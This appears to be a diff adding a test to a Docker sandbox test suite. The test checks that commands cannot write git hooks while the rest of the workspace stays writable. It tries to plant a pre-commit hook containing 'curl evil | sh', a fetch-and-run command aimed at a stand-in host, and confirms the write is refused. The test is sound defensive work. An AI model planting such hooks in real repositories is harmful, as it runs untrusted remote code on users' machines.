@@ -172,3 +172,15 @@ async def test_policy_network_allow_list_goes_through_the_egress_proxy(docker_cl
         assert lines[3].startswith("403") and "blocked.test matches none of: allowed.test" in r.stdout.text
         network = s.egress.network
     assert docker_client.api.networks(names=[network]) == []
+
+
+async def test_git_dir_is_read_only_to_commands(docker_client, user_workspace: Path) -> None:
+    (user_workspace / ".git" / "hooks").mkdir(parents=True)
+    (user_workspace / "src.txt").write_text("x\n")
+    os.chown(user_workspace / "src.txt", 1000, 1000)
+    async with await DockerSession.create(user_workspace, client=docker_client) as s:
+        r = await s.run("echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit")
+        assert r.exit_code != 0 and "Read-only file system" in r.stderr.text
+        r = await s.run("echo y >> src.txt && cat src.txt")  # the rest of the checkout stays writable
+        assert r.stdout.text == "x\ny\n"
+    assert not (user_workspace / ".git" / "hooks" / "pre-commit").exists()
